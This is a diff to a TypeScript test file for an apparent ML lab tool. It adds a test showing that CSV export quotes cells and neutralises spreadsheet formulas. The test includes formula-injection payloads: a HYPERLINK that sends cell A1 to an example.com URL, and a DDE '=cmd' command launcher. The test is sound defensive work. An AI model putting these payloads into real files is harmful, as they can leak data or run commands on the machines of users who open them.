@@ -188,8 +188,8 @@ describe('export: CSV', () => {
 		const comments = lines.filter((l) => l.startsWith('#'));
 		assert.match(comments[0], /Minibatch Lab 9\.8\.7 results, exported 2025-06-01T10:00:00\.000Z/);
 		assert.match(comments.join('\n'), /iters_num=120 batch_size=100 learning_rate=0\.1 hidden_size=50 train_size=6000 seeds=0;1 samplers=replacement;epoch-shuffle/);
-		assert.match(comments.join('\n'), /dataset: MNIST \(bundled\) \(bundled\)/);
-		assert.match(comments.join('\n'), /replacement seed 1: failed: out of memory/);
+		assert.ok(comments.includes('# dataset,"MNIST (bundled) (bundled)"'), comments.join('\n'));
+		assert.ok(comments.includes('# replacement seed 1,failed,"out of memory"'), comments.join('\n'));
 		const data = lines.filter((l) => !l.startsWith('#'));
 		assert.equal(data[0], 'sampler,seed,iteration,epoch,loss,train_acc,test_acc');
 		assert.equal(data.length, 1 + 4 * 120);
@@ -199,6 +199,58 @@ describe('export: CSV', () => {
 		assert.deepEqual(at('epoch-shuffle', 1, 60), ['epoch-shuffle', '1', '60', '1', String(2.3 - 0.6), String(0.925 + 0.01), '0.925']);
 		assert.deepEqual(at('replacement', 0, 5), ['replacement', '0', '5', String(5 / 60), '', '', ''], 'a NaN loss is an empty cell');
 		assert.deepEqual(at('replacement', 0, 0).slice(3), ['0', '2.3', '0.1', '0.1']);
+	});
+});
+
+/** RFC 4180 as a spreadsheet reads it: commas split cells, a cell that starts with a quote runs to its closing quote. */
+function spreadsheetCells(csv: string): string[][] {
+	return csv
+		.trimEnd()
+		.split('\n')
+		.map((line) => {
+			const cells: string[] = [];
+			let i = 0;
+			for (;;) {
+				let cell = '';
+				if (line[i] === '"') {
+					for (i++; i < line.length; i++) {
+						if (line[i] === '"' && line[i + 1] === '"') (cell += '"'), i++;
+						else if (line[i] === '"') break;
+						else cell += line[i];
+					}
+					i++;
+				} else {
+					const end = line.indexOf(',', i);
+					cell = line.slice(i, end < 0 ? line.length : end);
+					i = end < 0 ? line.length : end;
+				}
+				cells.push(cell);
+				if (line[i] !== ',') return cells;
+				i++;
+			}
+		});
+}
+
+describe('export: CSV from a hostile workspace', () => {
+	it('keeps a dataset path and failure reasons in one quoted cell each, and no cell starts a formula', () => {
+		const label = 'x,=HYPERLINK("https://example.com/?"&A1,"Fix")';
+		const reasons = ['=cmd|\' /C calc\'!A0', '+1+1', '-2,@SUM(A1)', '@SUM(1)', 'a "quoted"\nline'];
+		const msgs = history([0, 1, 2]);
+		msgs[0] = { type: 'runStarted', run: info([0, 1, 2], { dataset: label, datasetOrigin: 'workspace' }) };
+		const failed = msgs.filter((m) => m.type === 'runDone').slice(0, reasons.length);
+		reasons.forEach((reason, k) => {
+			const m = failed[k] as Extract<RunMessage, { type: 'runDone' }>;
+			msgs.splice(msgs.indexOf(m), 1, { type: 'runFailed', runId: 7, sampler: m.summary.sampler, seed: m.seed, reason });
+		});
+		const cells = spreadsheetCells(toCsv(resultsFromHistory(msgs)!, meta));
+		const formulas = cells.flat().filter((c) => /^[=+\-@]/.test(c));
+		assert.deepEqual(formulas, [], 'a cell a spreadsheet would run as a formula');
+		const text = cells.filter((row) => row[0].startsWith('#')).map((row) => row.slice(1));
+		assert.ok(text.some((row) => row[0] === `${label} (workspace)`), 'the dataset path in one cell, as it is');
+		for (const reason of reasons) {
+			const shown = reason.replace(/\n/g, ' ');
+			assert.ok(text.some((row) => row.at(-1) === shown || row.at(-1) === `'${shown}`), `the reason ${JSON.stringify(reason)} in one cell`);
+		}
 	});
 });
 
